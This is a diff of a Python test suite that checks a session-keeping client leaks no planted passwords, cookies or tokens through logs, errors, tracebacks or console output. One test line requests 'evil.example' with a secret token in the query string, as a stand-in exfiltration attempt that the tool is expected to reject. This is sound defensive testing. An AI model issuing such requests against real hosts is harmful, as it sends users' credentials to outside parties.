@@ -8,7 +8,6 @@ from __future__ import annotations
 
 import subprocess
 import time
-import traceback
 from functools import partial
 from pathlib import Path
 from typing import Any, Callable
@@ -24,6 +23,7 @@ from tests.python.planting import (
     PASSWORD,
     WRONG,
     Plant,
+    Shown,
     plant_in,
 )
 from tests.servers.fixture import StandIn
@@ -33,37 +33,20 @@ ME = '{"query": "{ me { id email name } }"}'
 REFUSED_COOKIE = [["Set-Cookie", f"strange={ECHOED}; Domain=example.org"]]
 
 
-class Stage:
+class Stage(Shown):
     """One keeper with its log turned up, and all that it showed."""
 
     def __init__(self, keeper: sessionkeeper.Keeper, plant: Plant) -> None:
-        self.keeper = keeper
+        super().__init__(keeper)
         self.plant = plant
-        self.shown: dict[str, str | bytes] = {}
-
-    def show(self, place: str, *things: object) -> None:
-        texts = [f"{thing!r} {thing}" for thing in things]
-        self.shown[f"{place}, step {len(self.shown)}"] = "\n".join(texts)
 
     def log_in(self) -> sessionkeeper.Session:
         session = self.keeper.login(NAME, PASSWORD)
         self.plant.take(session.cookies, session.headers)
         return session
 
-    def fails(self, place: str, act: Callable[[], object]) -> None:
-        with pytest.raises(sessionkeeper.Error) as caught:
-            act()
-        error = caught.value
-        self.show(place, error, error.hint, error.args, error.as_dict(), vars(error))
-        self.shown[f"the traceback of {place}"] = "".join(
-            traceback.format_exception(type(error), error, error.__traceback__)
-        )
-
     def leaks(self, capfd: pytest.CaptureFixture[str]) -> list[str]:
-        keeper = self.keeper
-        self.show("the keeper", keeper, keeper.status(), keeper.details(), keeper.schedule())
-        self.show("the rest", keeper.audit(1000), keeper.doctor(), keeper.events(0))
-        self.show("the log", *keeper.take_log())
+        self.show_the_rest()
         self.shown["standard output"], self.shown["standard error"] = capfd.readouterr()
         return self.plant.leaks(self.shown)
 
@@ -190,7 +173,7 @@ def test_the_command_line_shows_no_secret(
     run("request", "GET", f"https://evil.example/?token={ECHOED}", expected=1)
     run("request", "GET", GRAPHQL, "--header", ECHOED, expected=2)
     run("logout")
-    for name, parameters in LOGOUT_FAULTS[::3]:
+    for name, parameters in LOGOUT_FAULTS[int(as_json) :: 5]:
         run(*login, given=f"{PASSWORD}\n".encode())
         credentials()
         angel.fault("/logout", name, **parameters)
